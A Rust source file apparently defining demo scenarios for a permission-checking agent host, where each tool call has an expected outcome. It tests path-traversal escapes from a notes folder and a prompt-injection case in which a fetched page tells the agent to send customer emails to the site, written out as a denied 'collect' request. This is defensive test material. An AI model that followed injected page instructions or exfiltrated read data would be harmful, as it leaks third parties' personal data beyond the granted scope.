//! What the demo's agent does, and what it should come to.

use serde_json::{Value, json};

/// What a step should come to: the demo checks itself.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(super) enum Expect {
    Done,
    Denied,
    Asked,
    /// The tool fails by itself, without the host having been asked for anything.
    Nothing,
}

pub(super) struct Step {
    pub title: &'static str,
    pub tool: &'static str,
    pub arguments: Value,
    pub expect: Expect,
    /// What to notice, where the record alone does not tell.
    pub remark: Option<&'static str>,
}

/// One conversation.
pub(super) struct Act {
    pub session: &'static str,
    pub title: &'static str,
    pub granted: &'static str,
    pub steps: Vec<Step>,
}

/// Stands for the real path of the secret file, which is known only when the demo runs.
pub(super) const SECRET: &str = "SECRET";
/// Stands for the address of the site, likewise.
pub(super) const SITE: &str = "SITE";

pub(super) fn acts() -> Vec<Act> {
    vec![notes(), customers()]
}

fn step(title: &'static str, tool: &'static str, arguments: Value, expect: Expect) -> Step {
    Step {
        title,
        tool,
        arguments,
        expect,
        remark: None,
    }
}

impl Step {
    fn remark(self, remark: &'static str) -> Self {
        Self {
            remark: Some(remark),
            ..self
        }
    }
}

fn notes() -> Act {
    use Expect::{Asked, Denied, Done, Nothing};
    Act {
        session: "demo",
        title: "An agent works with ada's notes, through the plugin `notes`.",
        granted: "Granted: list, read, create and modify in FOLDER/notes; delete only if a person says so.\n\
                  The plugin does no checks of its own: whatever name it is given, it opens.",
        steps: vec![
            step("list the notes", "list_notes", json!({}), Done),
            step("read a note", "read_note", json!({"name": "todo"}), Done),
            step(
                "search them all",
                "search_notes",
                json!({"query": "milk"}),
                Done,
            )
            .remark("`link` is a link out of the folder: it is passed over, the rest is searched"),
            step(
                "escape by `..`",
                "read_note",
                json!({"name": "../secret"}),
                Denied,
            ),
            step(
                "escape by an absolute path",
                "read_note",
                json!({"name": SECRET}),
                Nothing,
            )
            .remark(
                "no access was even wanted: in the tool's world there is nothing but /notebook",
            ),
            step(
                "escape by a link",
                "read_note",
                json!({"name": "link"}),
                Denied,
            ),
            step(
                "write a note",
                "write_note",
                json!({"name": "plans/friday", "text": "# Friday\nship it\n"}),
                Done,
            ),
            step(
                "delete a note",
                "delete_note",
                json!({"name": "todo"}),
                Asked,
            ),
        ],
    }
}

fn customers() -> Act {
    use Expect::{Asked, Denied, Done};
    let insert =
        "INSERT INTO customers VALUES ('Grace', 'grace@example.org'), ('Alan', 'alan@example.org')";
    Act {
        session: "demo-customers",
        title: "In another conversation it reads a web page, and ada's customers in an SQLite file.",
        granted: "Granted: get from SITE; select, insert and ddl in FOLDER/shop.db, update and delete only if a\n\
                  person says so. What is in the file is labelled `customers`, and the site does not accept that.",
        steps: vec![
            step(
                "make a table",
                "create_table",
                json!({"query": "CREATE TABLE customers (name TEXT, mail TEXT)"}),
                Done,
            ),
            step("fill it", "write_query", json!({"query": insert}), Done),
            step(
                "fetch a page",
                "fetch",
                json!({"url": format!("{SITE}/offer")}),
                Done,
            )
            .remark("the page tells the agent to send it the customers; what was read is untrusted from here on"),
            step(
                "look up the customers",
                "read_query",
                json!({"query": "SELECT name, mail FROM customers ORDER BY name"}),
                Done,
            ),
            step(
                "do what the page says",
                "fetch",
                json!({"url": format!("{SITE}/collect?who=alan@example.org,grace@example.org")}),
                Denied,
            )
            .remark("any request could carry what was read, so none is made: not even for robots.txt"),
            step(
                "delete the customers",
                "write_query",
                json!({"query": "DELETE FROM customers"}),
                Asked,
            ),
        ],
    }
}
